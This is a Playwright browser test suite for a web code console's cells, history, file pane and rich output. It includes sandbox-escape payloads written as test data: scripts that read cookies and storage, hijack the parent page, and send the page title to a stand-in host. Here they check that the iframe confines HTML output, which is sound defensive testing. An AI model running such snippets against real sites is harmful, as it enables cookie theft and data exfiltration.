"""The console under the hands: keys, history, rich results, and programs whose output wants out of its frame."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import FrameLocator, Locator, Page, expect

from tests.browser.conftest import Tab


@pytest.fixture
def page(tab: Tab) -> Iterator[Page]:
    tab.sign_in()
    yield tab.open("/dashboard/console/")
    with tab.site.service.client() as client:
        for context in client.get("/contexts/").json()["contexts"]:
            client.delete(f"/contexts/{context['context_id']}")


def field(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Cell")


def run(page: Page, code: str) -> Locator:
    """Types a cell and gives its place in the transcript, once it has ended."""
    before = page.locator(".console__cell").count()
    field(page).fill(code)
    field(page).press("Enter")
    cell = page.locator(".console__cell").nth(before)
    expect(cell.locator(".console__count")).to_have_text(re.compile(r"\[\d+\]"))
    return cell


def frame(cell: Locator) -> FrameLocator:
    return cell.locator("iframe").content_frame


def test_enter_runs_and_what_a_cell_made_is_there_in_the_next(page: Page) -> None:
    run(page, "x = 20")
    expect(run(page, "x + 1").locator(".console__output")).to_have_text("21")
    expect(page.locator(".console__count").nth(1)).to_have_text("[2]")
    page.wait_for_url(re.compile(r"/dashboard/console/[\w-]{24}/"))
    page.reload()
    expect(run(page, "x + 2").locator(".console__output")).to_have_text("22")


def test_shift_enter_begins_a_new_line_with_its_indentation(page: Page) -> None:
    field(page).click()
    page.keyboard.type("for n in range(2):")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("print(n)")
    expect(field(page)).to_have_value("for n in range(2):\n    print(n)")
    page.keyboard.press("Enter")
    expect(page.locator(".console__text--stdout")).to_have_text("0\n1\n")
    expect(field(page)).to_have_value("")


def test_the_arrows_walk_through_the_history_also_after_a_reload(page: Page) -> None:
    run(page, "first = 1")
    run(page, "if first:\n    second = 2")
    page.reload()
    field(page).click()
    page.keyboard.type("draft")
    page.keyboard.press("ArrowUp")
    expect(field(page)).to_have_value("if first:\n    second = 2")
    page.keyboard.press("ArrowUp")
    expect(field(page)).to_have_value("first = 1")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    expect(field(page)).to_have_value("draft")
    page.get_by_role("button", name="forget it").click()
    page.reload()
    field(page).press("ArrowUp")
    expect(field(page)).to_have_value("")


def test_tab_indents_and_escape_lets_it_leave(page: Page) -> None:
    field(page).click()
    page.keyboard.press("Tab")
    expect(field(page)).to_have_value("    ")
    page.keyboard.press("Shift+Tab")
    expect(field(page)).to_have_value("")
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Run")).to_be_focused()


def test_streams_are_shown_as_they_come_and_an_interrupt_keeps_the_state(page: Page) -> None:
    field(page).fill("x = 5\nprint('begun', flush=True)\nwhile True: pass")
    field(page).press("Enter")
    expect(page.locator(".console__text--stdout")).to_have_text("begun\n")
    page.get_by_role("button", name="Interrupt").click()
    expect(page.locator(".console__error > p")).to_have_text("Interrupted: The cell was interrupted.")
    expect(run(page, "x").locator(".console__output")).to_have_text("5")


def test_files_of_the_work_dir_are_at_hand(page: Page) -> None:
    run(page, "open('é.txt', 'w').write('made')")
    page.get_by_text("Files", exact=True).click()
    files = page.locator("#files li")
    expect(files).to_have_count(1)
    with page.expect_download() as download:
        page.get_by_role("link", name="é.txt").click()
    assert download.value.path().read_text() == "made"
    page.get_by_label("Files to send").set_input_files({"name": "b.csv", "mimeType": "text/csv", "buffer": b"1,2"})
    page.get_by_role("button", name="Send", exact=True).click()
    expect(files).to_have_count(2)
    expect(run(page, "open('b.csv').read()").locator(".console__output")).to_have_text("'1,2'")
    run(page, "open('c.txt', 'w').close()")
    expect(files).to_have_count(3)
    page.on("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Remove é.txt").click()
    expect(files).to_have_count(2)


def test_it_fits_a_phone(page: Page) -> None:
    page.set_viewport_size({"width": 320, "height": 700})
    run(page, "print('a_word_without_an_end' * 20)\nopen('x' * 60, 'w').close()")
    page.get_by_text("Files", exact=True).click()
    expect(page.locator("#files li")).to_have_count(1)
    assert page.evaluate("document.documentElement.scrollWidth") == 320


def test_much_output_is_shown_to_its_end_in_order(page: Page) -> None:
    code = "import sys\nfor n in range(40_000): print(n)\nprint('oh', file=sys.stderr)\nprint('half\\rover')"
    printed = run(page, code).locator(".console__text--stdout")
    expect(printed.first).to_contain_text("39999")
    assert "".join(printed.all_inner_texts()).split() == [*map(str, range(40_000)), "over"]


def test_a_restart_forgets(page: Page) -> None:
    run(page, "x = 5")
    page.get_by_role("button", name="Restart").click()
    expect(page.get_by_text("Restarted: variables and files are gone.")).to_be_visible()
    cell = run(page, "x")
    expect(cell.locator(".console__count")).to_have_text("[1]")
    expect(cell.locator(".console__error > p")).to_have_text(re.compile("NameError"))
    expect(cell.locator(".console__error pre")).to_contain_text("Traceback")


def test_results_are_shown_by_their_type(page: Page) -> None:
    run(page, "from IPython.display import *")
    figure = run(page, "import matplotlib.pyplot as plt\n_ = plt.plot([1, 2])").locator("img")
    expect(figure).to_have_js_property("complete", True)
    assert figure.evaluate("image => image.naturalWidth") > 100
    script = "<script>parent.document.title = 1</script>"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='30'>{script}</svg>"
    picture = run(page, f'SVG("""{svg}""")').locator("img")
    expect(picture).to_have_js_property("naturalWidth", 40)
    table = frame(run(page, "import pandas\npandas.DataFrame({'a': [1, 2]})")).locator("table.dataframe")
    expect(table).to_contain_text("a")
    expect(frame(run(page, "Markdown('# Title\\n*soft*')")).locator("h1")).to_have_text("Title")
    expect(frame(run(page, "import sympy\nsympy.sqrt(sympy.Symbol('x'))")).locator("math msqrt")).to_be_visible()
    expect(run(page, "JSON({'a': [1, {'b': None}]})").locator("details").first).to_contain_text("{1}")
    error = run(page, "import sys; print('oh', file=sys.stderr)").locator(".console__text--stderr")
    expect(error).to_have_text("oh\n")


def test_an_update_takes_the_place_of_what_it_updates(page: Page) -> None:
    code = "h = display('before', display_id=True)\ndisplay('between')\nh.update('after')"
    expect(run(page, code).locator(".console__item")).to_have_text(["'after'", "'between'"])


def test_scripts_of_html_draw_in_their_frame(page: Page) -> None:
    code = "<div id=plot></div><script>document.getElementById('plot').textContent = 6 * 7</script>"
    cell = run(page, f'from IPython.display import HTML\nHTML("{code}")')
    expect(frame(cell).locator("#plot")).to_have_text("42")
    expect(frame(run(page, "HTML('<p style=\"height: 300px\">tall</p>')")).locator("p")).to_be_visible()
    expect(page.locator("iframe").nth(1)).to_have_css("height", re.compile(r"3\d\dpx"))


ESCAPES = {
    "the page around": "parent.document.title = 'taken'",
    "its cookies": "document.cookie",
    "the storage": "localStorage.length",
    "the top": "top.location = '/docs/'",
    "a window": "if (open('/docs/') === null) throw Error('refused')",
    "the network": "(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{url}/healthz', false); x.send() }})()",
}


@pytest.mark.parametrize("way", ESCAPES)
def test_html_does_not_get_out_of_its_frame(tab: Tab, page: Page, way: str) -> None:
    attempt = ESCAPES[way].format(url=tab.site.url)
    script = f"try {{ {attempt}; told.textContent = 'out' }} catch {{ told.textContent = 'in' }}"
    html = f"<p id=told>-</p><script>{script}</script>"
    cell = run(page, f'from IPython.display import HTML\nHTML("""{html}""")')
    expect(frame(cell).locator("#told")).to_have_text("in")
    assert page.title() == "Console · Runcode"
    assert "/dashboard/console/" in page.url
    assert len(tab.context.pages) == 1
    # The browser says on its console what it refused.
    tab.complaints.clear()


def test_a_frame_does_not_lead_elsewhere(tab: Tab, page: Page) -> None:
    html = "<script>location = 'http://192.0.2.1/?' + document.title</script>"
    requests: list[str] = []
    tab.context.on("request", lambda request: requests.append(request.url))
    cell = run(page, f'from IPython.display import HTML\nHTML("""{html}""")')
    expect(cell.locator("iframe")).to_be_visible()
    run(page, "1")
    assert not [url for url in requests if "192.0.2.1" in url]
    tab.complaints.clear()


def test_html_that_lies_about_its_height_does_not_cover_the_page(page: Page) -> None:
    html = "<script>setInterval(() => parent.postMessage({height: 1e9}, '*'), 50)</script>"
    cell = run(page, f'from IPython.display import HTML\nHTML("{html}")')
    expect(cell.locator("iframe")).to_have_css("height", "640px")


def test_a_closed_context_is_told_and_the_next_cell_opens_another(tab: Tab, page: Page) -> None:
    run(page, "x = 1")
    with tab.site.service.client() as client:
        (context,) = client.get("/contexts/").json()["contexts"]
        client.delete(f"/contexts/{context['context_id']}")
    field(page).fill("x")
    field(page).press("Enter")
    expect(page.get_by_text("The context has gone, and its variables with it.")).to_be_visible()
    expect(field(page)).to_have_value("x")
    tab.complaints.clear()
    expect(run(page, "x").locator(".console__error > p")).to_contain_text("NameError")


def test_typescript_has_a_console_too(page: Page) -> None:
    page.get_by_label("Language").select_option("typescript")
    expect(run(page, "const n: number = 6; n * 7").locator(".console__output")).to_have_text("42")
    expect(page.get_by_label("Language")).to_be_disabled()


def test_the_list_follows_what_happens_and_closes_a_context(tab: Tab, page: Page) -> None:
    run(page, "x = 1")
    other = tab.context.new_page()
    other.goto(f"{tab.site.url}/dashboard/contexts/")
    expect(other.locator("#contexts li")).to_have_count(1)
    expect(other.locator("#contexts li")).to_contain_text("1 cell")
    run(page, "x = 2")
    expect(other.locator("#contexts li")).to_contain_text("2 cells")
    other.on("dialog", lambda dialog: dialog.accept())
    other.get_by_role("button", name="Close").click()
    expect(other.get_by_text("No context is open.")).to_be_visible()
